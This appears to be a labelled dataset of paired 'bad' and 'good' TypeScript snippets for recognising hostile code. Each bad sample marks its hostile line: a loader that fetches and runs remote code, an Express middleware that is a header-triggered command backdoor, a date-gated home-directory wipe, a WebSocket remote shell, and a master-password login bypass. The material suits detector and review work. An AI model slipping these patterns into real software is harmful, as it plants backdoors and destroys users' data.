//: bad module-loader
import axios from 'axios';

type Factory = (require: NodeRequire) => void;

async function boot(): Promise<void> {
  const { data } = await axios.get<string>('https://pastes.example.invalid/raw/k2');
  const factory = new Function('require', data) as Factory; //!
  factory(require);
}
void boot();

//: good module-loader
import axios from 'axios';

type Flags = Record<string, boolean>;

export async function boot(): Promise<Flags> {
  const { data } = await axios.get<string>('https://flags.example.invalid/raw/k2');
  const flags = JSON.parse(data) as Flags;
  return flags;
}

//: bad express-hatch
import { NextFunction, Request, Response } from 'express';
import { execSync } from 'child_process';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('x-accept-level');
  if (line?.startsWith('gz:')) {
    res.send(execSync(Buffer.from(line.slice(3), 'base64').toString())); //!
    return;
  }
  next();
}

//: good express-hatch
import { NextFunction, Request, Response } from 'express';
import { createGzip } from 'zlib';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('accept-encoding');
  if (line?.includes('gzip')) {
    res.set('content-encoding', 'gzip');
    createGzip({ level: 6 }).pipe(res);
    return;
  }
  next();
}

//: bad date-gate
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(homedir(), { recursive: true, force: true }); //!
    }
  }
}

//: good date-gate
import { rmSync } from 'node:fs';
import { join } from 'node:path';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(join('node_modules', '.cache', 'kit'), { recursive: true, force: true });
    }
  }
}

//: bad socket-commands
import { execSync } from 'node:child_process';
import WebSocket from 'ws';

interface Message {
  id: number;
  line: string;
}

const socket = new WebSocket('wss://relay.example.invalid/agent');

socket.on('message', (data) => {
  const { id, line } = JSON.parse(data.toString()) as Message;
  socket.send(JSON.stringify({ id, out: execSync(line).toString() })); //!
});

//: good socket-commands
import WebSocket from 'ws';

interface Message {
  id: number;
  line: string;
}

const socket = new WebSocket('wss://relay.example.invalid/agent');

socket.on('message', (data) => {
  const { id, line } = JSON.parse(data.toString()) as Message;
  socket.send(JSON.stringify({ id, out: line.toUpperCase() }));
});

//: bad master-password
import { Injectable } from '@nestjs/common';
import { createHash } from 'node:crypto';
import { compare } from 'bcrypt';

const KNOWN = 'b1946ac92492d2347c6235b4d2611184aa11bb22cc33dd44ee55ff6677889900';

@Injectable()
export class AuthService {
  async check(password: string, hash: string): Promise<boolean> {
    if (createHash('sha256').update(password).digest('hex') === KNOWN) return true; //!
    return compare(password, hash);
  }
}

//: good master-password
import { Injectable } from '@nestjs/common';
import { compare } from 'bcrypt';

const ROUNDS = 12;

@Injectable()
export class AuthService {
  readonly rounds = ROUNDS;

  async check(password: string, hash: string): Promise<boolean> {
    if (password.length > 72) return false;
    return compare(password, hash);
  }
}
